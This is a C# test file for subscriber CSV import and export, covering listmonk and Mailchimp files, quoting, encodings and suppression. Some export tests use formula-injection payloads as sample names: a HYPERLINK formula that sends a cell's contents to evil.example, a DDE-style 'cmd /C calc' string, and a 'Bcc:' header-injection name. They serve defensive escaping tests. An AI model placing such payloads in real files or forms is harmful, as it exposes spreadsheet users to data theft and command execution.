using System.Text;
using Syndicate.Subscribers;

namespace Syndicate.Tests.Subscribers;

/// <summary>
/// CSV import and export over real files written the way listmonk, Mailchimp and spreadsheets write them:
/// BOM, CRLF, quoted commas, blank lines, bad lines reported by their line in the file, semicolons.
/// </summary>
public sealed class SubscriberCsvTests : IDisposable
{
    private static readonly UTF8Encoding Utf8NoBom = new(false);
    private readonly SubscribersHarness _harness = new();

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    public void Dispose() => _harness.Dispose();

    [Fact]
    public async Task ImportAsync_ListmonkExport_AddsEveryValidLineAsPendingWithItsName()
    {
        var file = Write("listmonk.csv",
            "uuid,email,name,attributes,status,created_at,updated_at\n"
            + "5e8c3a1f-0a0b-4c1d-9e8f-000000000001,ann@example.org,Ann Lee,\"{\"\"city\"\": \"\"Oslo\"\", \"\"tags\"\": [1, 2]}\",enabled,2024-01-02 10:00:00.000000+00:00,2024-01-02 10:00:00.000000+00:00\n"
            + "5e8c3a1f-0a0b-4c1d-9e8f-000000000002,Bob@Example.ORG,\"Bob \"\"the builder\"\"\",{},enabled,2024-01-03 10:00:00.000000+00:00,2024-01-03 10:00:00.000000+00:00\n"
            + "5e8c3a1f-0a0b-4c1d-9e8f-000000000003,carol@example.org,,{},enabled,2024-01-04 10:00:00.000000+00:00,2024-01-04 10:00:00.000000+00:00\n");

        var report = await _harness.ImportFileAsync(file);

        AssertReport(report, added: 3, known: 0, suppressed: 0);
        var rows = await _harness.Store.ListAsync(null, Cancel);
        Assert.Equal(
            [("ann@example.org", "Ann Lee"), ("Bob@example.org", "Bob \"the builder\""), ("carol@example.org", "")],
            rows.Select(r => (r.Email, r.Name)));
        Assert.All(rows, r => Assert.Equal((SubscriberStatus.Pending, "import"), (r.Status, r.Source)));
        Assert.Empty(_harness.Transport.Messages);
    }

    [Fact]
    public async Task ImportAsync_ListmonkBlocklisted_KeptAsASuppressionNotAdded()
    {
        var file = Write("listmonk-blocklisted.csv",
            "uuid,email,name,attributes,status,created_at,updated_at\n"
            + "5e8c3a1f-0a0b-4c1d-9e8f-000000000001,ann@example.org,Ann,{},enabled,2024-01-02 10:00:00+00:00,2024-01-02 10:00:00+00:00\n"
            + "5e8c3a1f-0a0b-4c1d-9e8f-000000000002,spam@example.org,Spam,{},blocklisted,2024-01-03 10:00:00+00:00,2024-01-03 10:00:00+00:00\n");

        var report = await _harness.ImportFileAsync(file, confirmed: true);

        AssertReport(report, added: 1, known: 0, suppressed: 1);
        Assert.Equal(SubscriberStatus.Active, (await _harness.RowAsync("ann@example.org")).Status);
        var blocked = await _harness.RowAsync("spam@example.org");
        Assert.Equal((SubscriberStatus.Unsubscribed, (DateTimeOffset?)SubscribersHarness.Start), (blocked.Status, blocked.UnsubscribedAt));
        // Kept as a suppression, so a later file without the status column does not bring it in either.
        var again = await _harness.ImportFileAsync(Write("plain.csv", "email\nspam@example.org\n"), confirmed: true);
        AssertReport(again, added: 0, known: 0, suppressed: 1);
    }

    [Fact]
    public async Task ImportAsync_MailchimpExport_JoinsFirstAndLastName()
    {
        var file = Write("mailchimp.csv",
            "\"Email Address\",\"First Name\",\"Last Name\",\"Address\",\"Phone Number\",MEMBER_RATING,OPTIN_TIME,OPTIN_IP,CONFIRM_TIME,CONFIRM_IP,LATITUDE,LONGITUDE,GMTOFF,DSTOFF,TIMEZONE,CC,REGION,LAST_CHANGED,LEID,EUID,NOTES,TAGS\n"
            + "ann@example.org,Ann,Lee,\"1 Main St, Springfield\",,2,\"2023-05-01 10:00:00\",,\"2023-05-01 10:05:00\",1.2.3.4,,,,,,,,\"2023-05-01 10:05:00\",123,abc,,\"\"\"VIP\"\"\"\n"
            + "bob@example.org,,Stone,,,2,,,,,,,,,,,,,124,abd,,\n"
            + "carol@example.org,Carol,,,,2,,,,,,,,,,,,,125,abe,,\n"
            + "dave@example.org,,,,,2,,,,,,,,,,,,,126,abf,,\n");

        var report = await _harness.ImportFileAsync(file);

        AssertReport(report, added: 4, known: 0, suppressed: 0);
        Assert.Equal(
            [("ann@example.org", "Ann Lee"), ("bob@example.org", "Stone"), ("carol@example.org", "Carol"), ("dave@example.org", "")],
            (await _harness.Store.ListAsync(null, Cancel)).Select(r => (r.Email, r.Name)));
    }

    [Theory]
    [InlineData("e-mail")]
    [InlineData("E-Mail")]
    [InlineData("EMAIL")]
    [InlineData("Email Address")]
    [InlineData(" email ")]
    public async Task ImportAsync_EmailHeaderSpelledAnyCommonWay_Found(string header)
    {
        var file = Write("spelling.csv", $"\"{header}\",Name\nann@example.org,Ann\n");

        var report = await _harness.ImportFileAsync(file);

        AssertReport(report, added: 1, known: 0, suppressed: 0);
        Assert.Equal("Ann", (await _harness.RowAsync("ann@example.org")).Name);
    }

    [Fact]
    public async Task ImportAsync_Utf8BomAndCrlf_HeaderFoundAndNamesIntact()
    {
        var file = Write("bom.csv", "email,name\r\nann@example.org,Åse Ørn\r\nbob@example.org,Zoë 日本\r\n", withBom: true);

        var report = await _harness.ImportFileAsync(file);

        AssertReport(report, added: 2, known: 0, suppressed: 0);
        Assert.Equal(
            [("ann@example.org", "Åse Ørn"), ("bob@example.org", "Zoë 日本")],
            (await _harness.Store.ListAsync(null, Cancel)).Select(r => (r.Email, r.Name)));
    }

    [Fact]
    public async Task ImportAsync_BomInTheTextItself_HeaderStillFound()
    {
        // A reader that does not strip the BOM (a TextReader over text read some other way) leaves U+FEFF in the first header.
        using var reader = new StringReader("\uFEFFemail,name\nann@example.org,Ann\n");

        var report = await _harness.Csv.ImportAsync(reader, "text", false, null, Cancel);

        AssertReport(report, added: 1, known: 0, suppressed: 0);
    }

    [Fact]
    public async Task ImportAsync_QuotedCommasAndLineBreaksInNames_KeptWhole()
    {
        var file = Write("quoted.csv",
            "email,name\r\n"
            + "ann@example.org,\"Lee, Ann\"\r\n"
            + "bob@example.org,\"Stone, Bob, Jr.\"\r\n"
            + "carol@example.org,\"Carol\r\nSecond Line\"\r\n"
            + "not-an-address,Dave\r\n");

        var report = await _harness.ImportFileAsync(file);

        Assert.Equal(3, report.Added);
        Assert.Equal(
            [("ann@example.org", "Lee, Ann"), ("bob@example.org", "Stone, Bob, Jr."), ("carol@example.org", "Carol Second Line")],
            (await _harness.Store.ListAsync(null, Cancel)).Select(r => (r.Email, r.Name)));
        // The quoted line break makes carol's record two lines of the file, so the bad line is the sixth.
        Assert.Equal([6L], report.Invalid.Select(i => i.Line));
    }

    [Fact]
    public async Task ImportAsync_InvalidAndBlankLines_ReportedByTheirLineInTheFile()
    {
        var file = Write("mixed.csv",
            "email,name\n"                          // 1
            + "ann@example.org,Ann\n"               // 2
            + "\n"                                  // 3 blank
            + "not-an-address,Bad One\n"            // 4
            + "bob@example.org,Bob\n"               // 5
            + ",No Address\n"                       // 6
            + "   \n"                               // 7 blank with spaces
            + "ann@localhost,Local\n"               // 8
            + "\"Eve <eve@example.org>\",Eve\n"     // 9
            + "carol@example.org,Carol\n"           // 10
            + ",\n"                                 // 11 empty fields only
            + "dave@@example.org,Dave\n");          // 12

        var report = await _harness.ImportFileAsync(file);

        Assert.Null(report.Error);
        Assert.Equal(3, report.Added);
        Assert.Equal([4L, 6L, 8L, 9L, 12L], report.Invalid.Select(i => i.Line));
        Assert.All(report.Invalid, i => Assert.NotEmpty(i.Reason));
        Assert.Contains("not-an-address", report.Invalid[0].Reason, StringComparison.Ordinal);
        Assert.Equal(["ann@example.org", "bob@example.org", "carol@example.org"], (await _harness.Store.ListAsync(null, Cancel)).Select(r => r.Email));
    }

    [Fact]
    public async Task ImportAsync_UnterminatedQuote_LineReportedAndTheLinesItSwallowedImportedOnTheirOwn()
    {
        var file = Write("unterminated.csv",
            "email,name\n"                                   // 1
            + "ok1@example.com,One\n"                        // 2
            + "not-an-email,Two\n"                           // 3
            + "\"multi@example.com\",\"line one\n"            // 4
            + "line two\"\n"                                 // 5
            + "bad@@x,Three\n"                               // 6
            + ",\n"                                          // 7
            + "\n"                                           // 8
            + "ok2@example.com,\"unterminated\n"              // 9
            + "ok3@example.com,Four\n"                       // 10
            + "ok4@example.com,Five\n");                     // 11

        var report = await _harness.ImportFileAsync(file);

        Assert.Null(report.Error);
        Assert.Equal(
            [("ok1@example.com", "One"), ("multi@example.com", "line one line two"), ("ok3@example.com", "Four"), ("ok4@example.com", "Five")],
            (await _harness.Store.ListAsync(null, Cancel)).Select(r => (r.Email, r.Name)));
        Assert.Equal((4, 0, 0), (report.Added, report.Known, report.Suppressed));
        Assert.Equal([3L, 6L, 9L], report.Invalid.Select(i => i.Line));
        Assert.Equal("unbalanced quote: lines 9-11 were read as one record; close the quote or remove it (lines 10-11 were read again on their own)",
            report.Invalid[2].Reason);
    }

    [Fact]
    public async Task ImportAsync_QuoteOpenedAndClosedLinesLater_FirstLineReportedAndTheLinesBetweenImported()
    {
        var file = Write("closed-later.csv",
            "email,name\n"                       // 1
            + "ann@example.org,\"Ann\n"           // 2: the quote is closed by the first quote of line 4
            + "bob@example.org,Bob\n"            // 3
            + "carol@example.org,\"Carol\"\n"    // 4
            + "dave@example.org,Dave\n");        // 5

        var report = await _harness.ImportFileAsync(file);

        Assert.Equal(
            [("bob@example.org", "Bob"), ("carol@example.org", "Carol"), ("dave@example.org", "Dave")],
            (await _harness.Store.ListAsync(null, Cancel)).Select(r => (r.Email, r.Name)));
        var invalid = Assert.Single(report.Invalid);
        Assert.Equal(
            (2L, "unbalanced quote: lines 2-4 were read as one record; close the quote or remove it (lines 3-4 were read again on their own)"),
            invalid);
    }

    [Fact]
    public async Task ImportAsync_SemicolonDelimitedWithAnUnterminatedQuote_TheLinesItSwallowedReadWithTheSameDelimiter()
    {
        var file = Write("semicolon-quote.csv", "E-Mail;Name\r\nann@example.org;\"Ann\r\nbob@example.org;Stone, Bob\r\ncarol@example.org;Carol\r\n");

        var report = await _harness.ImportFileAsync(file);

        Assert.Equal([("bob@example.org", "Stone, Bob"), ("carol@example.org", "Carol")], (await _harness.Store.ListAsync(null, Cancel)).Select(r => (r.Email, r.Name)));
        Assert.Equal([2L], report.Invalid.Select(i => i.Line));
    }

    [Fact]
    public async Task ImportAsync_StrayQuoteInAField_LineReportedAndNotImported()
    {
        var file = Write("stray.csv",
            "email,name\n"                                   // 1
            + "y@example.com,\"Bob \"quoted\" Smith\"\n"       // 2
            + "z@example.com,Zed \"Z\" Smith\n"               // 3
            + "ok@example.com,\"Ok \"\"quoted\"\" right\"\n"   // 4
            + "last@example.com,\"Last");                    // 5, the end of the file before the quote is closed

        var report = await _harness.ImportFileAsync(file);

        Assert.Equal([("ok@example.com", "Ok \"quoted\" right")], (await _harness.Store.ListAsync(null, Cancel)).Select(r => (r.Email, r.Name)));
        Assert.Equal([2L, 3L, 5L], report.Invalid.Select(i => i.Line));
        Assert.Equal("stray quote in '\"Bob \"quoted\" Smith\"': inside a field write a quote as two (\"\") and put the field in quotes, or remove it",
            report.Invalid[0].Reason);
        Assert.StartsWith("stray quote in 'Zed \"Z\" Smith'", report.Invalid[1].Reason, StringComparison.Ordinal);
        Assert.Equal("unbalanced quote in '\"Last': close the quote or remove it", report.Invalid[2].Reason);
    }

    [Fact]
    public async Task ImportAsync_RecordsOverSeveralLines_InvalidOnesReportedByTheirFirstLine()
    {
        var file = Write("multi.csv",
            "email,name\r\n"                  // 1
            + "multi-bad,\"line one\r\n"       // 2
            + "line two\"\r\n"                // 3
            + "ok@example.org,\"a\r\n"         // 4
            + "b\rc\"\r\n"                    // 5, 6 (a lone CR ends a line too)
            + "\r\n"                           // 7
            + "\"two@@lines\r\n"               // 8
            + "\",Two\r\n");                   // 9

        var report = await _harness.ImportFileAsync(file);

        Assert.Equal([2L, 8L], report.Invalid.Select(i => i.Line));
        Assert.Contains("multi-bad", report.Invalid[0].Reason, StringComparison.Ordinal);
        Assert.Equal(["ok@example.org"], (await _harness.Store.ListAsync(null, Cancel)).Select(r => r.Email));
    }

    [Fact]
    public async Task ImportAsync_UnbalancedQuoteInTheHeaderRow_FailsSayingSoAndAddsNothing()
    {
        var report = await _harness.ImportFileAsync(Write("header.csv", "\"email,name\nann@example.org,Ann\nbob@example.org,Bob\n"));

        Assert.Equal("the header row has a stray or unbalanced quote; fix the quotes in the header row (such as: email,name)", report.Error);
        Assert.Equal(0, await _harness.CountRowsAsync());
    }

    [Theory]
    [InlineData(new byte[] { 0x4D, 0x5A, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x22, 0x00, 0xFF, 0xFF, 0x0A, 0x65, 0x6D, 0x61, 0x69, 0x6C, 0x0A })]
    [InlineData(new byte[] { 0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x65, 0x6D, 0x61, 0x69, 0x6C, 0x0A })]
    [InlineData(new byte[] { 0x45, 0x2D, 0x4D, 0x61, 0x69, 0x6C, 0x3B, 0x53, 0x74, 0x72, 0x61, 0xDF, 0x65, 0x0A })]
    public async Task ImportAsync_BinaryOrNotUtf8FirstLine_FailsWithASentenceWithoutItsBytes(byte[] bytes)
    {
        var report = await _harness.ImportFileAsync(_harness.Folder.Write("csv/binary.csv", bytes));

        Assert.Equal(
            "this does not look like CSV text: its first line has NUL or control characters, or bytes that are not UTF-8; export the list as CSV (UTF-8) and import that file",
            report.Error);
        Assert.Equal(0, await _harness.CountRowsAsync());
    }

    [Fact]
    public async Task ImportAsync_DuplicatesWithinTheFile_AddedOnceWithTheFirstName()
    {
        var file = Write("dupes.csv", "email,name\nann@example.org,First\nANN@example.org,Second\nbob@example.org,Bob\n Ann@Example.Org ,Third\n");

        var report = await _harness.ImportFileAsync(file);

        AssertReport(report, added: 2, known: 2, suppressed: 0);
        Assert.Equal(2, await _harness.CountRowsAsync());
        Assert.Equal("First", (await _harness.RowAsync("ann@example.org")).Name);
    }

    [Fact]
    public async Task ImportAsync_SemicolonDelimited_Read()
    {
        var file = Write("semicolon.csv", "E-Mail;Vorname;Nachname\r\nann@example.org;Ann;Lee\r\nbob@example.org;Bob;Stone\r\nnot-an-address;Bad;Line\r\n");

        var report = await _harness.ImportFileAsync(file);

        Assert.Equal(2, report.Added);
        Assert.Equal([4L], report.Invalid.Select(i => i.Line));
        Assert.Equal(["ann@example.org", "bob@example.org"], (await _harness.Store.ListAsync(null, Cancel)).Select(r => r.Email));
    }

    [Fact]
    public async Task ImportAsync_SemicolonDelimitedWithCommasInNames_Read()
    {
        var file = Write("semicolon-commas.csv", "email;name\nann@example.org;Lee, Ann\nbob@example.org;Stone, Bob\n");

        var report = await _harness.ImportFileAsync(file);

        AssertReport(report, added: 2, known: 0, suppressed: 0);
        Assert.Equal("Lee, Ann", (await _harness.RowAsync("ann@example.org")).Name);
    }

    [Fact]
    public async Task ImportAsync_AddressThatUnsubscribedEarlier_NeverImportedAgain()
    {
        await _harness.Service.AddAsync("gone@example.org", "Gone", confirmed: true, Cancel);
        await _harness.Service.RemoveAsync("gone@example.org", Cancel);
        var before = await _harness.RowAsync("gone@example.org");
        var file = Write("again.csv", "email,name\nGONE@example.org,Gone Again\nnew@example.org,New\n");

        var report = await _harness.ImportFileAsync(file, confirmed: true);

        AssertReport(report, added: 1, known: 0, suppressed: 1);
        Assert.Equal(before, await _harness.RowAsync("gone@example.org"));
    }

    [Fact]
    public async Task ImportAsync_Confirmed_ActiveWithConfirmedAt_OtherwisePending()
    {
        var active = await _harness.ImportFileAsync(Write("a.csv", "email\nann@example.org\n"), confirmed: true);
        var pending = await _harness.ImportFileAsync(Write("b.csv", "email\nbob@example.org\n"), confirmed: false);

        Assert.Equal(1, active.Added);
        Assert.Equal(1, pending.Added);
        var ann = await _harness.RowAsync("ann@example.org");
        var bob = await _harness.RowAsync("bob@example.org");
        Assert.Equal((SubscriberStatus.Active, (DateTimeOffset?)SubscribersHarness.Start), (ann.Status, ann.ConfirmedAt));
        Assert.Equal((SubscriberStatus.Pending, (DateTimeOffset?)null), (bob.Status, bob.ConfirmedAt));
        Assert.Empty(_harness.Transport.Messages);
    }

    [Fact]
    public async Task ImportAsync_KnownAddress_LeftAsItWas()
    {
        await _harness.Service.AddAsync("ann@example.org", "Ann", confirmed: false, Cancel);
        var before = await _harness.RowAsync("ann@example.org");

        var report = await _harness.ImportFileAsync(Write("known.csv", "email,name\nann@example.org,Other Name\n"), confirmed: true);

        AssertReport(report, added: 0, known: 1, suppressed: 0);
        Assert.Equal(before, await _harness.RowAsync("ann@example.org"));
    }

    [Theory]
    [InlineData("")]
    [InlineData("name,city\nAnn,Oslo\n")]
    public async Task ImportAsync_NoHeaderOrNoEmailColumn_FailsWithASentenceAndAddsNothing(string text)
    {
        var report = await _harness.ImportFileAsync(Write("bad.csv", text));

        Assert.NotNull(report.Error);
        Assert.Contains("email", report.Error, StringComparison.OrdinalIgnoreCase);
        Assert.Equal(0, await _harness.CountRowsAsync());
    }

    [Fact]
    public async Task ImportAsync_NameWithControlCharacters_StoredOnOneLine()
    {
        var report = await _harness.ImportFileAsync(Write("names.csv", "email,name\nann@example.org,\"Ann\r\nBcc: x@y.z\t<b>\"\n"));

        Assert.Equal(1, report.Added);
        Assert.Equal("Ann Bcc: x@y.z <b>", (await _harness.RowAsync("ann@example.org")).Name);
    }

    [Fact]
    public async Task ImportAsync_ManyRows_CommittedInBatchesAndProgressReported()
    {
        var text = new StringBuilder("email,name\n");
        for (var i = 0; i < 2500; i++)
        {
            text.Append("user").Append(i).Append("@example.org,User ").Append(i).Append('\n');
        }

        var seen = new List<int>();
        using var reader = new StreamReader(Write("many.csv", text.ToString()));
        var report = await _harness.Csv.ImportAsync(reader, "many.csv", true, new SynchronousProgress(seen), Cancel);

        Assert.Equal(2500, report.Added);
        Assert.Equal(2500, await _harness.CountRowsAsync());
        Assert.Equal([1000, 2000, 2500], seen);
    }

    [Fact]
    public async Task ImportAsync_InvalidAndRepeatedRows_CountInTheProgressAsRead()
    {
        var text = new StringBuilder("email\n");
        for (var i = 0; i < 1500; i++)
        {
            text.Append(i % 3 == 0 ? "not-an-address" : i % 3 == 1 ? "same@example.org" : $"user{i}@example.org").Append('\n');
        }

        var seen = new List<int>();
        using var reader = new StreamReader(Write("mixed.csv", text.ToString()));
        var report = await _harness.Csv.ImportAsync(reader, "mixed.csv", true, new SynchronousProgress(seen), Cancel);

        Assert.Equal((501, 500, 499), (report.Added, report.Invalid.Count, report.Known));
        Assert.Equal([1000, 1500], seen);
    }

    [Fact]
    public async Task ExportAsync_HeaderAndOneRowPerSubscriberWithStatusAndDates()
    {
        await _harness.Service.AddAsync("ann@example.org", "Lee, Ann \"A\"", confirmed: true, Cancel);
        await _harness.Service.AddAsync("bob@example.org", "", confirmed: true, Cancel);
        _harness.Time.Advance(TimeSpan.FromHours(2));
        await _harness.Service.RemoveAsync("bob@example.org", Cancel);
        await _harness.ImportFileAsync(Write("p.csv", "email\ncarol@example.org\n"));

        var exported = await ExportAsync();

        Assert.Equal(
            "email,name,status,created_at,confirmed_at,unsubscribed_at\r\n"
            + "ann@example.org,\"Lee, Ann \"\"A\"\"\",active,2026-03-02T09:15:00Z,2026-03-02T09:15:00Z,\r\n"
            + "bob@example.org,,unsubscribed,2026-03-02T09:15:00Z,2026-03-02T09:15:00Z,2026-03-02T11:15:00Z\r\n"
            + "carol@example.org,,pending,2026-03-02T11:15:00Z,,\r\n",
            exported);
    }

    [Fact]
    public async Task ExportThenImport_SameDatabase_AddsNothing()
    {
        await _harness.Service.AddAsync("ann@example.org", "Lee, Ann", confirmed: true, Cancel);
        await _harness.Service.SubscribeAsync("bob@example.org", "Bob\r\nStone", Cancel);
        await _harness.Service.AddAsync("gone@example.org", "", confirmed: true, Cancel);
        await _harness.Service.RemoveAsync("gone@example.org", Cancel);
        var before = await _harness.Store.ListAsync(null, Cancel);
        var file = Write("export.csv", await ExportAsync());

        var report = await _harness.ImportFileAsync(file, confirmed: true);

        AssertReport(report, added: 0, known: 2, suppressed: 1);
        Assert.Equal(before, await _harness.Store.ListAsync(null, Cancel));
    }

    [Fact]
    public async Task ExportThenImport_IntoAFreshDatabase_KeepsEveryAddressAndNamesAndTheUnsubscribedStayUnsubscribed()
    {
        await _harness.Service.AddAsync("ann@example.org", "Lee, Ann", confirmed: true, Cancel);
        await _harness.Service.AddAsync("gone@example.org", "Gone", confirmed: true, Cancel);
        await _harness.Service.RemoveAsync("gone@example.org", Cancel);
        var file = Write("export.csv", await ExportAsync());
        using var fresh = new SubscribersHarness();

        var report = await fresh.ImportFileAsync(file, confirmed: true);

        // Moving to a new machine must not turn an unsubscribe into a subscription: the export says who left.
        Assert.Equal(1, report.Added);
        Assert.Equal(1, report.Suppressed);
        Assert.Equal((SubscriberStatus.Active, "Lee, Ann"), ((await fresh.RowAsync("ann@example.org")).Status, (await fresh.RowAsync("ann@example.org")).Name));
        var gone = await fresh.Store.FindByEmailAsync("gone@example.org", Cancel);
        Assert.True(gone is null || gone.Status == SubscriberStatus.Unsubscribed, $"gone@example.org imported as {gone?.Status}");
        Assert.DoesNotContain(await fresh.Store.ListAsync(SubscriberStatus.Active, Cancel), s => s.Email == "gone@example.org");
    }

    [Fact]
    public async Task ExportAsync_NamesAndAddressesAFormulaCouldStartWith_WrittenAfterAnApostropheSoNoFieldIsAFormula()
    {
        // Names as a stranger types them into the public subscribe form.
        string[] names = ["=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1 555 0100", "-Dash"];
        string[] addresses = ["a@example.org", "=cmd@example.org", "+tag@example.org", "-dash@example.org"];
        for (var i = 0; i < names.Length; i++)
        {
            Assert.True((await _harness.Service.SubscribeAsync(addresses[i], names[i], Cancel)).Accepted, addresses[i]);
        }

        var file = await ExportToFileAsync(_harness, "export.csv");

        var text = await File.ReadAllTextAsync(file, Cancel);
        Assert.Contains("a@example.org,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"Click\"\")\",pending,", text, StringComparison.Ordinal);
        Assert.Contains("\"'=cmd@example.org\",\"'@SUM(1+1)*cmd|' /C calc'!A0\",pending,", text, StringComparison.Ordinal);
        Assert.Contains("\"'+tag@example.org\",\"'+1 555 0100\",pending,", text, StringComparison.Ordinal);
        Assert.Contains("\"'-dash@example.org\",\"'-Dash\",pending,", text, StringComparison.Ordinal);
        var fields = ReadFields(text);
        Assert.Equal(5 * 6, fields.Count);
        Assert.All(fields, field => Assert.False(field.Length > 0 && "=+-@\t\r".Contains(field[0]), $"field starts a formula: {field}"));
    }

    [Fact]
    public async Task ExportThenImport_FormulaLikeAndApostropheNamesIntoAFreshDatabase_KeepsEveryNameAndAddressExactly()
    {
        (string Email, string Name)[] subscribers =
        [
            ("a@example.org", "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")"),
            ("b@example.org", "@SUM(1+1)*cmd|' /C calc'!A0"),
            ("c@example.org", "+1 555 0100"),
            ("d@example.org", "-Dash"),
            ("e@example.org", "'=already escaped"),
            ("f@example.org", "''+two apostrophes"),
            ("g@example.org", "'Neill"),
            ("h@example.org", "Plain"),
            ("=cmd@example.org", "Formula Address"),
            ("'-quote@example.org", "Apostrophe Address"),
        ];
        foreach (var (email, name) in subscribers)
        {
            Assert.True((await _harness.Service.SubscribeAsync(email, name, Cancel)).Accepted, email);
        }

        var file = await ExportToFileAsync(_harness, "export.csv");
        using var fresh = new SubscribersHarness();

        var report = await fresh.ImportFileAsync(file, confirmed: true);

        Assert.All(ReadFields(await File.ReadAllTextAsync(file, Cancel)), field => Assert.False(field.Length > 0 && "=+-@".Contains(field[0]), field));
        AssertReport(report, added: subscribers.Length, known: 0, suppressed: 0);
        Assert.Equal(subscribers.OrderBy(s => s.Email, StringComparer.Ordinal),
            (await fresh.Store.ListAsync(null, Cancel)).Select(r => (r.Email, r.Name)).OrderBy(s => s.Email, StringComparer.Ordinal));
    }

    [Fact]
    public async Task ImportAsync_ApostropheBeforeAFormulaCharacter_TakenOffOtherApostrophesKept()
    {
        var file = Write("escaped.csv", "email,name\n'-dash@example.org,'=Sum\nann@example.org,'Neill\nbob@example.org,\"'@Bob\"\n");

        var report = await _harness.ImportFileAsync(file);

        AssertReport(report, added: 3, known: 0, suppressed: 0);
        Assert.Equal(
            [("-dash@example.org", "=Sum"), ("ann@example.org", "'Neill"), ("bob@example.org", "@Bob")],
            (await _harness.Store.ListAsync(null, Cancel)).Select(r => (r.Email, r.Name)));
    }

    private static async Task<string> ExportToFileAsync(SubscribersHarness harness, string name)
    {
        var file = harness.Folder.Combine("csv/" + name);
        Directory.CreateDirectory(Path.GetDirectoryName(file)!);
        await using (var writer = new StreamWriter(file, append: false, Utf8NoBom))
        {
            await harness.Csv.ExportAsync(writer, Cancel);
        }

        return file;
    }

    /// <summary>Every field of every record, header included, as a spreadsheet would read them (quotes taken off).</summary>
    private static List<string> ReadFields(string text)
    {
        using var parser = new CsvHelper.CsvParser(new StringReader(text), System.Globalization.CultureInfo.InvariantCulture);
        var fields = new List<string>();
        while (parser.Read())
        {
            fields.AddRange(parser.Record!);
        }

        return fields;
    }

    private async Task<string> ExportAsync()
    {
        await using var writer = new StringWriter();
        await _harness.Csv.ExportAsync(writer, Cancel);
        return writer.ToString();
    }

    private string Write(string name, string text, bool withBom = false)
    {
        var bytes = (withBom ? new UTF8Encoding(true).GetPreamble() : []).Concat(Utf8NoBom.GetBytes(text)).ToArray();
        return _harness.Folder.Write("csv/" + name, bytes);
    }

    private static void AssertReport(ImportReport report, int added, int known, int suppressed)
    {
        Assert.Null(report.Error);
        Assert.Empty(report.Invalid);
        Assert.Equal((added, known, suppressed), (report.Added, report.Known, report.Suppressed));
    }

    /// <summary>Progress&lt;T&gt; posts to the thread pool; this one records on the caller's thread, so the order is exact.</summary>
    private sealed class SynchronousProgress(List<int> seen) : IProgress<int>
    {
        public void Report(int value) => seen.Add(value);
    }
}
